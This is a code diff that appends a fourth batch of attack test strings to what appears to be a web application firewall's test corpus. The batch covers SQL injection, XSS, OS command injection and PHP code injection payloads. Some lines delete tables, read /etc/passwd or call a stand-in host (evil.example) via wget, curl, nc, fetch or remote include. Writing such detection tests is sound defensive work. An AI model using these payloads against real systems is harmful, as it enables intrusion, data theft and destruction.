@@ -1892,3 +1892,175 @@ ref:https://portal.example.gov.vn/search?q=%22union%22+c%C3%B4ng+%C4%91o%C3%A0n
 ref:https://www.facebook.com/groups/123/?ref=share&mibextid=abc
 """),
 ]
+
+# Fourth batch (SQL injection, XSS, shell and PHP: the bulk of any WAF's attack tests), written
+# after round three and measured before round four.
+ATTACKS += [
+("sqli", "batch 4: SQL grammar of MySQL/MSSQL/PostgreSQL/Oracle/SQLite manuals; PortSwigger SQLi cheat sheet; OWASP SQLi Prevention Cheat Sheet", r"""
+q:id=1 or 1=1
+q:id=1' or 1=1 limit 1 -- -+
+q:id=' or 1 -- -
+q:id=1 or 'a'='a'
+q:id=1' or 'a'<>'b
+q:id=a' or 3 between 1 and 5 --
+q:id=x' or 1 in (1) --
+q:id=x' or name is not null --
+q:id=x') or ('a' like 'a
+q:id=1 and 1=0 union all select null,null,null
+q:id=1; select * from users
+q:id=1; insert into log values (1)
+q:id=1; delete from users --
+q:id=1; update users set password='x'
+q:id=1; exec sp_addlogin 'x','y'
+q:id=1; declare @a int
+q:id=1 and (select count(*) from sysobjects)>0
+q:id=1 and @@version>0
+q:id=1 and current_user='dbo'
+q:id=1 and version() like '8%'
+q:id=1 and database()='portal'
+q:id=1 and user() like 'root%'
+q:id=1 and length(database())=6
+q:id=1 and ascii(substring(user(),1,1))=114
+q:id=1 and mid(version(),1,1)=8
+q:id=1 and ord(mid(user(),1,1))>0
+q:id=1 and 1=(select 1 from dual where 1=1)
+q:id=1 and exists(select * from users)
+q:id=1 and (select top 1 name from sys.databases)='master'
+q:id=1 group by 1,2,3 having 1=1
+q:id=1 order by 1 asc, 2 desc --
+q:id=1 limit 1 offset 0 union select 1
+q:id=1 and sleep(3)
+q:id=1 and benchmark(1000000,sha1(1))
+q:id=1 waitfor delay '0:0:3'
+q:id=1 and pg_sleep(3) is null
+q:id=1' || pg_sleep(3) || '
+q:id=1 and 1=convert(int,(select top 1 table_name from information_schema.tables))
+q:id=1 and 1=cast(@@version as int)
+q:id=1 and extractvalue(rand(),concat(0x3a,(select version())))
+q:id=1' and updatexml(null,concat(0x0a,version()),null)-- -
+q:id=1 union select concat(username,':',password) from users
+q:id=1 union select group_concat(table_name) from information_schema.tables where table_schema=database()
+q:id=1 union select load_file(0x2f6574632f686f737473)
+q:id=1 into outfile '/var/www/html/x.txt'
+q:id=1 and 0x61646d696e=0x61646d696e
+q:id=1 and char(97)=char(97)
+q:id=1 and 'a'=concat('a')
+q:id=1 and hex('a')='61'
+q:id=admin'/**/or/**/1=1#
+q:id=1'/*!or*/1=1-- -
+q:id=1 /*!UNION*/ /*!SELECT*/ 1
+q:id=1%a0or%a01=1
+q:id=1'||1#
+q:id=1' or true#
+q:id=1' or not false#
+q:id=1' or 2>1#
+q:id=1' or '1
+q:id=1';shutdown with nowait;--
+q:q=" or ""="
+q:q=") or ("1")=("1
+q:q='; select pg_sleep(5); --
+q:q=' and (select substr(table_name,1,1) from all_tables where rownum=1)='A
+q:q=x' and row(1,1)>(select count(*),concat(version(),0x3a,floor(rand(0)*2)) x from information_schema.tables group by x)#
+q:q=1 and (select 1 from (select sleep(3))a)
+ua:Mozilla/5.0' or 1=1 --
+ref:https://portal.example/tin-tuc?id=1 union select null,version()--
+qn:id'or'1'='1
+pe:/tin-tuc/1' or '1'='1
+"""),
+("xss", "batch 4: OWASP XSS Filter Evasion Cheat Sheet; WHATWG HTML event handler list; PortSwigger XSS cheat sheet", r"""
+q:q=<script>alert(document.domain)</script>
+q:q=<script>confirm`1`</script>
+q:q=<script src=data:,alert(1)></script>
+q:q=<script>eval(location.hash.slice(1))</script>
+q:q=<script>window.onerror=alert;throw 1</script>
+q:q=<img src=1 onerror=prompt(1)>
+q:q=<img src onerror=alert(1)>
+q:q=<img src=x onerror=alert&#40;1&#41;>
+q:q=<img src=x onerror=&#x61;lert(1)>
+q:q=<svg onload=alert&lpar;1&rpar;>
+q:q=<svg/onload=location=`javas`+`cript:ale`+`rt%2`+`81%2`+`9`;//
+q:q=<body onfocus=alert(1) autofocus>
+q:q=<a href=javascript&colon;alert(1)>x</a>
+q:q=<a href="javascript&#58;alert(1)">x</a>
+q:q=<a href=" javascript:alert(1)">x</a>
+q:q=<a href="jav	ascript:alert(1)">x</a>
+q:q=<iframe src=jaVaScRiPt:alert(1)>
+q:q=<object data=data:text/html,<script>alert(1)</script>>
+q:q=<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>
+q:q=<form><input formaction=javascript:alert(1) type=submit value=x>
+q:q=<math href=javascript:alert(1)>x</math>
+q:q=<table background=javascript:alert(1)>
+q:q=<div onmouseenter=alert(1)>x</div>
+q:q=<p onclick=alert(1)>x</p>
+q:q=<span onanimationstart=alert(1)>x</span>
+q:q=<x contenteditable onblur=alert(1)>x
+q:q=<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a>
+q:q=<img src=x onerror=import(`//evil.example`)>
+q:q=<img src=x onerror=fetch(`//evil.example`)>
+q:q='onmouseover='alert(1)'
+q:q=" onfocus="alert(1)" autofocus="
+q:q=javascript:alert(1)
+q:q=javascript://%0aalert(1)
+q:q=<svg><script xlink:href=data:,alert(1)></script>
+q:q=<script>alert(String.fromCharCode(49))</script>
+q:q=<script>\u0061lert(1)</script>
+q:q=<script>a=alert;a(1)</script>
+q:q=<script>[1].map(alert)</script>
+q:q=<script>top[`al`+`ert`](1)</script>
+q:q=<script>Function`alert\x281\x29```</script>
+"""),
+("command-injection", "batch 4: POSIX shell grammar, GNU coreutils, cmd.exe; PortSwigger OS command injection", r"""
+q:ip=1.1.1.1;ls
+q:ip=1.1.1.1|ls -al
+q:ip=1.1.1.1&&id
+q:ip=1.1.1.1||id
+q:ip=1.1.1.1%0als
+q:ip=1.1.1.1`uname`
+q:ip=1.1.1.1$(uname -a)
+q:ip=1.1.1.1;cat /etc/hosts
+q:ip=1.1.1.1;cat /etc/group
+q:ip=1.1.1.1;ls /var/www
+q:ip=1.1.1.1;ps aux
+q:ip=1.1.1.1;netstat -an
+q:ip=1.1.1.1;ifconfig -a
+q:ip=1.1.1.1;uname -r
+q:ip=1.1.1.1;wget evil.example/x
+q:ip=1.1.1.1;curl evil.example
+q:ip=1.1.1.1|nc evil.example 80
+q:ip=1.1.1.1;ping -c1 evil.example
+q:ip=1.1.1.1;nslookup evil.example
+q:ip=1.1.1.1;dig evil.example
+q:ip=1.1.1.1;sleep 5;
+q:ip=1.1.1.1&dir
+q:ip=1.1.1.1&type c:\boot.ini
+q:ip=1.1.1.1|net view
+q:ip=1.1.1.1&ipconfig
+q:ip=1.1.1.1&&ping -n 5 127.0.0.1
+q:ip=1.1.1.1;$SHELL -c id
+q:ip=1.1.1.1;${SHELL} -c id
+q:ip=1.1.1.1;e\c\h\o hi
+q:ip=1.1.1.1;/bin/ls
+"""),
+("code-injection", "batch 4: PHP manual (functions, variables, tags), PHP object injection write-ups", r"""
+q:x=<?php phpinfo(); ?>
+q:x=<?php echo `id`; ?>
+q:x=<?php include('http://evil.example/s.txt'); ?>
+q:x=<?= system('id') ?>
+q:x=phpinfo();//
+q:x=;phpinfo();
+q:x=';system('id');'
+q:x=".system('id')."
+q:x=${@system(id)}
+q:x=$_REQUEST[x]($_REQUEST[y])
+q:x=$GLOBALS['a']
+q:x=echo file_get_contents('/etc/passwd');
+q:x=print_r(scandir('.'));
+q:x=var_dump(getenv());
+q:x=readfile('/etc/passwd');
+q:x=show_source(__FILE__);
+q:x=highlight_file(__FILE__);
+q:x=chr(115).chr(121).chr(115)
+q:x=O:4:"Test":1:{s:1:"a";s:2:"id";}
+q:x=C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}
+"""),
+]
